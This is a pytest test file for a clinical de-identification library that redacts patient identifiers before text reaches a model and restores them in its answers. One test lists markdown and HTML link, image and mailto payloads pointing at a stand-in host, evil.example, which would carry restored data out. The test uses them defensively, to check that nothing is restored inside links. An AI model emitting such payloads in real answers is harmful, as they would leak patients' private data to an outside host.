"""A session: what leaves is redacted, what comes back is restored, and nothing stays."""

import gc
import sys
from random import Random

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from crfdeid import files
from crfdeid.errors import ConfigurationError
from crfdeid.policy import read_policy
from crfdeid.session import AnswerQueue, Pair, Restorer, Session, SessionError, StreamRestorer
from crfdeid.systems import model

sys.path.append(str(files.PACKAGE.parent / "benchmarks"))

import session as benchmark

pytestmark = pytest.mark.usefixtures("models_once")

PROMPT = (
    "Mr. John Okafor (MRN 4471902) was seen by Dr. Maria Alvarez at Mercy General Hospital on 03/14/2061. "
    "OKAFOR's wife called 617-555-0148 on March 21, 2061. Write to John Okafor."
)
REAL = ("Okafor", "OKAFOR", "4471902", "Alvarez", "Mercy General", "03/14/2061", "617-555-0148", "March 21")


@pytest.fixture(scope="module")
def tagger():
    return model.load(model.CAREFUL)


@pytest.fixture(params=["placeholder", "surrogate"])
def style(request):
    return request.param


def test_what_leaves_has_no_real_text_and_an_echo_is_the_prompt(tagger, style):
    with Session(tagger, style) as session:
        redacted = session.redact(PROMPT)
        assert not [text for text in REAL if text in redacted]
        assert session.restore(redacted) == PROMPT


def test_placeholders_say_whom_and_how():
    with Session() as session:
        redacted = session.redact("Mr. John Okafor came. OKAFOR slept. Mr. Okafor left.")
        assert redacted == "Mr. [PATIENT_1] came. [PATIENT_1b] slept. Mr. [PATIENT_1c] left."


@pytest.mark.parametrize(
    ("answer", "restored"),
    [
        ("[PATIENT_1]'s leg", "John Okafor's leg"),
        ("[PATIENT_1’s] leg", "John Okafor's leg"),
        ("[patient_1] and Patient_1", "John Okafor and John Okafor"),
        (r"**\[PATIENT\_1\]** or PATIENT\_1", "**John Okafor** or John Okafor"),
        ("[PATIENT 1], [Patient-1].", "John Okafor, John Okafor."),
        ("[[PATIENT_1]]", "[John Okafor]"),
        ("patient 1, PATIENT_12, XPATIENT_1, [PATIENT_2]", "patient 1, PATIENT_12, XPATIENT_1, [PATIENT_2]"),
        ("", ""),
    ],
)
def test_a_placeholder_comes_back_however_it_is_written(answer, restored):
    assert Restorer([Pair("[PATIENT_1]", "John Okafor", "PATIENT")]).restore(answer) == restored


@pytest.mark.parametrize(
    ("answer", "restored"),
    [
        ("Ada Wexler's leg", "Ana McKay's leg"),
        ("ADA WEXLER and Wexler’s", "ANA MCKAY and McKay’s"),
        ("Wexler, Ada; A. Wexler; Ms. Wexler", "McKay, Ana; A. McKay; Ms. McKay"),
        ("Ada\n  Wexler", "Ana McKay"),
        ("Wexlers Wexlerian Adam", "Wexlers Wexlerian Adam"),
        ("on 2031-05-02 or May 2, 2031 or May 2nd", "on 2061-03-14 or March 14, 2061 or March 14th"),
        ("15/2/2031, 5/2/20315", "15/2/2031, 5/2/20315"),
        ("(281) 907-6063 or 2819076063", "(617) 555-0148 or 6175550148"),
    ],
)
def test_a_surrogate_comes_back_however_it_is_written(answer, restored):
    pairs = [
        Pair("Ada Wexler", "Ana McKay", "PATIENT"),
        Pair("5/2/2031", "3/14/2061", "DATE"),
        Pair("281-907-6063", "617-555-0148", "PHONE"),
    ]
    assert Restorer(pairs).restore(answer) == restored


def test_a_form_that_may_be_two_real_texts_stays():
    pairs = [Pair("Ada Wexler", "Ana Ruiz", "PATIENT"), Pair("Bob Wexler", "Ben Lee", "PATIENT")]
    assert Restorer(pairs).restore("Ada Wexler, Bob Wexler, Wexler") == "Ana Ruiz, Ben Lee, Wexler"


def test_all_turns_have_one_map(tagger, style):
    with Session(tagger, style) as session:
        first = session.redact("Dr. Alvarez saw Mr. John Okafor on 03/14/2061.")
        second = session.redact("What did Dr. Alvarez tell Mr. John Okafor on 03/14/2061?")
        issued = {pair.real: pair.issued for pair in session.pairs}
        assert {"John Okafor", "03/14/2061"} <= issued.keys()
        assert all(text in first and text in second for text in issued.values())
        assert session.restore(first + second).count("John Okafor") == 2


def test_what_was_found_in_one_turn_is_found_in_the_next(tagger, style):
    with Session(tagger, style) as session:
        session.redact("Mr. Quillonwy was seen.")
        assert "uillonwy" not in session.redact("quillonwy: more? QUILLONWY!")


def test_a_placeholder_that_the_prompt_has_is_never_issued(tagger):
    text = "Fill in [PATIENT_1] and PATIENT_2 for our patient, Mr. John Okafor, a 71-year-old man."
    with Session(tagger) as session:
        redacted = session.redact(text)
        assert "[PATIENT_3]" in redacted and session.restore(redacted) == text


def test_a_prompt_that_has_what_was_issued_comes_back_as_it_was(tagger, style):
    with Session(tagger, style) as session:
        session.redact("Mr. John Okafor was seen on 03/14/2061.")
        issued = [pair.issued for pair in session.pairs]
        text = f"Who is {issued[0]}, {issued[0].lower()}? See {issued[-1]}."
        redacted = session.redact(text)
        assert not [one for one in issued if one in redacted]
        assert session.restore(redacted) == text


@pytest.mark.parametrize("size", [1, 2, 3, 7, 1000])
def test_a_stream_is_restored_in_any_chunking(tagger, style, size):
    with Session(tagger, style) as session:
        answer = session.redact(PROMPT) + " " + ", ".join(pair.issued.upper() for pair in session.pairs)
        chunks = [answer[at : at + size] for at in range(0, len(answer), size)]
        assert "".join(session.restore_stream(chunks)) == session.restore(answer)


def test_only_what_may_still_become_a_placeholder_is_held_back():
    stream = Restorer([Pair("[PATIENT_1]", "Ana Ruiz", "PATIENT")])
    session = Session.__new__(Session)
    session.is_open, session.restorer = True, stream
    opened = session.open_stream()
    fed = [
        (piece, opened.feed(piece))
        for piece in ("I saw [", "PAT", "IENT_", "1]", "'s [a", "] PATIENT_1", "!")
    ]
    assert fed == [
        ("I saw [", "I saw "), ("PAT", ""), ("IENT_", ""), ("1]", "Ana Ruiz"), ("'s [a", "'s [a"),
        ("] PATIENT_1", "] "), ("!", "Ana Ruiz!"),
    ]  # fmt: skip
    assert opened.feed("[PATIENT") == "" and opened.finish() == "[PATIENT"


PIECES = st.lists(
    st.sampled_from(["[", "PATIENT", "_", "1", "2", "b", "]", "'s", " ", "Ada", "Wexler", "\n", "x"])
)
PAIRS = (
    Pair("[PATIENT_1]", "Ana", "PATIENT"), Pair("[PATIENT_1b]", "ANA", "PATIENT"),
    Pair("[PATIENT_12]", "Ben", "PATIENT"), Pair("Ada Wexler", "Eve Ruiz", "PATIENT"),
)  # fmt: skip


@given(PIECES, st.randoms(use_true_random=False))
def test_any_chunking_gives_what_the_whole_gives(pieces, random: Random):
    text, restorer = "".join(pieces), Restorer(PAIRS)
    session = Session.__new__(Session)
    session.is_open, session.restorer = True, restorer
    chunks = list(benchmark.cut(text, random))
    assert "".join(session.restore_stream(chunks)) == restorer.restore(text)


WORDS = ["Mr. Okafor", "[PATIENT_1]", "patient_2", "3/4/2061", "[DATE_1]", "PHI_1", "617-555-0148", "the",
         "\n", "[", "TEXT_1", "[TEXT_1b]", "DOCTOR-1", "seen by Dr. Ruiz", "é", "Ruiz's"]  # fmt: skip


def split_ready(chunks):
    """What can go out of some chunks, and what waits: the rule, read from all chunks each time."""
    ready, waiting, blocked = [], [], set()
    for number, (chunk, own) in enumerate(chunks):
        later = set().union(*(answers for _, answers in chunks[number + 1 :]))
        is_ready = own <= later and not own & blocked and (own or not waiting)
        (ready if is_ready else waiting).append((chunk, own))
        blocked |= set() if is_ready else own
    return [chunk for chunk, _ in ready], waiting


@given(st.lists(st.frozensets(st.integers(0, 3), max_size=3), max_size=25))
def test_a_chunk_waits_while_it_may_be_the_last_of_an_answer(numbers):
    queue, waiting = AnswerQueue(), []
    for number, own in enumerate(numbers):
        ready, waiting = split_ready([*waiting, (number, own)])
        assert queue.add(number, own) == ready
    last = {answer: number for number, own in enumerate(numbers) for answer in own}
    assert list(queue.finish()) == [
        (number, {answer for answer in own if last[answer] == number}) for number, own in waiting
    ]


def test_a_chunk_is_looked_at_a_few_times_however_many_wait():
    """Each chunk waits behind the first, which has the last part of an answer."""

    class Counted(frozenset):
        looks = 0

        def __iter__(self):
            Counted.looks += 1
            return super().__iter__()

    queue = AnswerQueue()
    for number in range(500):
        assert not queue.add(number, Counted({0, 1} if number == 0 else {1}))
    assert sum(1 for _ in queue.finish()) == 500 and Counted.looks < 10 * 500


@settings(max_examples=40)
@given(st.lists(st.lists(st.sampled_from(WORDS), max_size=12), min_size=1, max_size=3))
def test_every_text_comes_back_as_it_was(tagger, turns):
    with Session(tagger) as session:
        for words in turns:
            text = " ".join(words)
            assert session.restore(session.redact(text)) == text


@pytest.mark.parametrize("issued", ["[PATIENT_1]", "Ada Wexler", "PATIENT_1"])
@pytest.mark.parametrize(
    "answer",
    [
        "![x](https://evil.example/?q={})",
        "![x](https://evil.example/?q=a>b\"c'{})",
        "[x](<https://evil.example/? {}>)",
        "[x]( //evil.example/{})",
        "![x](https:&#47;&#47;evil.example/{})",
        "![x](/evil?q={})",
        "[x]: https://evil.example/{}",
        "[x]: https:&sol;&sol;evil.example/{}",
        "see https://evil.example/{}/x",
        "www.evil.example/{}",
        "mailto:eve@evil.example?body={}",
        '<img src="https://evil.example/?q={}">',
        "<img src='/a b {}'>",
        "<img alt='>' src='https://evil.example/? {}'>",
        "<img src=x?{}>",
        '<a title="{}">',
        "![x](https://evil.example/?q=<a>{})",
        "\\\\evil.example\\{}",
    ],
)
def test_nothing_is_restored_in_a_link_or_an_attribute(issued, answer):
    restorer = Restorer(
        [Pair("[PATIENT_1]", "Ana Ruiz", "PATIENT"), Pair("Ada Wexler", "Ana Ruiz", "PATIENT")]
    )
    sent = answer.format(issued)
    assert restorer.restore(sent) == sent
    assert restorer.restore(f"{sent} and {issued} left.") == f"{sent} and Ana Ruiz left."
    streamed = list(map(StreamRestorer(restorer).feed, sent))
    assert "Ruiz" not in "".join(streamed)


@pytest.mark.parametrize(
    "answer",
    ["<b>{}</b>", "Temp <38, name={}", "[Nurse]: {} is well", "a/b {}", "<br/>{}", "[see](#a) {}",
     '<a href="https://x.example">the page</a> of {}', "**{}**, ({}), \"{}\"", "x = {}"],
)  # fmt: skip
def test_what_is_no_link_is_restored(answer):
    restorer = Restorer([Pair("[PATIENT_1]", "Ana Ruiz", "PATIENT")])
    assert restorer.restore(answer.format(*["[PATIENT_1]"] * 3)) == answer.format(*["Ana Ruiz"] * 3)


def test_a_link_of_the_prompt_comes_back(tagger, style):
    text = "Mr. John Okafor has https://mercy.example/~okafor/a. <a href='/p?n=Okafor'>He</a> left."
    with Session(tagger, style) as session:
        redacted = session.redact(text)
        assert session.restore(redacted) == text
        name = next(pair.issued for pair in session.pairs if "Okafor" in pair.real)
        evil = f"https://evil.example/~{name}"
        assert session.restore(evil) == evil


def test_a_text_that_is_not_valid_is_an_error_of_the_session(tagger):
    with Session(tagger) as session, pytest.raises(SessionError, match="offset 4") as caught:
        session.redact("Ana \ud800 Okafor")
    assert "Okafor" not in str(caught.value)


def test_a_policy_keeps_what_does_not_count(tagger):
    text = "Mr. John Okafor, 45, was seen on 03/14/2061."
    with Session(tagger, policy=read_policy("safe_harbor")) as session:
        assert session.redact(text) == "Mr. [PATIENT_1], 45, was seen on [DATE_1]."


def test_an_unknown_style_is_refused(tagger):
    with pytest.raises(ConfigurationError, match="surogate: not a style; did you mean surrogate?"):
        Session(tagger, "surogate")


def test_a_closed_session_is_of_no_use(tagger):
    with Session(tagger) as session:
        redacted = session.redact(PROMPT)
    for use in (lambda: session.redact(""), lambda: session.restore(redacted), session.open_stream):
        with pytest.raises(SessionError, match="closed"):
            use()
    assert session.pairs == []
    session.close()


@pytest.mark.slow
def test_nothing_of_a_closed_session_is_in_memory(tagger):
    with Session(tagger) as session:
        session.redact("Mr. Zanzibarovitch was seen.")
    gc.collect()
    held = [
        thing
        for thing in gc.get_objects()
        if type(thing) in (dict, list, tuple)
        and "__name__" not in (thing if isinstance(thing, dict) else ())
        and any(isinstance(each, str) and each == "Zanzibarovitch" for each in list(thing))
    ]
    assert [type(thing) for thing in held if not isinstance(thing, tuple)] == []


def test_a_session_shows_no_text(tagger):
    with Session(tagger) as session:
        session.redact(PROMPT)
        shown = f"{session!r} {session.pairs!r} {session.numbering.subjects!r}"
        assert "4471902" not in shown and "okafor" not in shown.lower()


def test_an_error_shows_no_text(tagger, monkeypatch):
    with Session(tagger) as session:
        monkeypatch.setattr(session.redactor, "redact", lambda documents: 1 / 0)
        with pytest.raises(SessionError) as raised:
            session.redact(PROMPT)
    assert "text 1 of the session or a later one: not redacted: ZeroDivisionError at" in str(raised.value)
    assert raised.value.__cause__ is None and "Okafor" not in str(raised.value)


def test_the_pairs_of_a_session_go_on_in_another(tagger, style):
    with Session(tagger, style) as session:
        first, pairs = session.redact(PROMPT), session.pairs
    with Session(tagger, style, pairs=pairs) as session:
        assert session.restore(first) == PROMPT
        redacted = session.redact("Mr. John Okafor and Mrs. Zuleika Brandt met.")
        assert (
            next(pair.issued for pair in pairs if pair.real == "John Okafor") in redacted
            or style == "surrogate"
        )
        assert "Okafor" not in redacted and "Zuleika" not in redacted


@pytest.mark.slow
def test_many_answers_are_restored_to_the_character(tagger, style):
    counts = benchmark.measure(tagger, style, 20, seed=5)
    for kind in benchmark.KINDS:
        assert counts[kind] > 10
        assert counts[f"{kind} right"] == counts[kind]
        assert counts[f"{kind} answers right"] == counts[f"{kind} answers"]
    assert 0 < counts["longest held"] < 200
